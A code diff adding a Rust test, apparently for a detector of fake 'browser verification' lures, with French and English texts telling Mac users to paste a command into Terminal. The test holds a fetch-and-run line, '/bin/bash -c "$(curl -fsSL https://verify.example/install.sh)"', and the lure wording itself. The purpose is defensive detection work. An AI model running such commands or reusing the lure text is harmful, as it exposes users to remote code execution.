@@ -2121,6 +2121,29 @@ mod tests {
     }
 
     #[test]
+    fn mac_lures_in_other_words_and_languages() {
+        // A browser "verification" before a document, the Mac shortcut with the language's word
+        // for space, "type Terminal", the command kept off the page (twentieth session).
+        let cmd = "/bin/bash -c \"$(curl -fsSL https://verify.example/install.sh)\"";
+        assert!(judged(
+            cmd,
+            "Votre navigateur doit être vérifié avant d'accéder au document. Étapes pour Mac : \
+             appuyez sur ⌘ Cmd + Espace et tapez Terminal, collez avec ⌘ Cmd + V, appuyez sur Retour."
+        ));
+        assert!(judged(
+            cmd,
+            "Your browser must be verified before accessing the document. Steps for Mac: press \
+             ⌘ Cmd + Space and type Terminal, paste with ⌘ Cmd + V, press Return."
+        ));
+        // Docs that say the same shortcut and show their command stay silent.
+        assert!(!judged(
+            "curl -fsSL https://example.test/install.sh | sh",
+            "Install: press Cmd + Space, type Terminal, paste with Cmd + V: \
+             curl -fsSL https://example.test/install.sh | sh"
+        ));
+    }
+
+    #[test]
     fn developer_pages_stay_silent() {
         let docs =
             "Install. Run the following in your terminal, then press Enter. Paste that in a \
